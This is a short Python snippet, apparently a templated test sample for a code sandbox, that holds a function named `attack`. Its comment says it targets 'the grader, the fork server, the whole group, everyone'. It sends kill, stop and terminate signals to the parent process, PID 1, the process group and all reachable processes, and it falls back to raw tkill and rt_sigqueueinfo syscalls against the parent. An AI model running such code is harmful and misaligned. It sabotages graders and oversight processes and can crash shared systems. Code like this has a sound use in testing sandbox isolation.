# Signal the grader, the fork server, the whole group, everyone.
import ctypes, os, signal
def attack():
    done = 0
    for pid in (os.getppid(), 1, 0, -1, -os.getpgrp(), @PID@):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, 0):
            try:
                os.kill(pid, number)
                done += 1
            except OSError:
                pass
    libc = ctypes.CDLL(None)
    return done or libc.syscall(200, os.getppid(), 9) == 0 or libc.syscall(129, os.getppid(), 9, bytes(128)) == 0
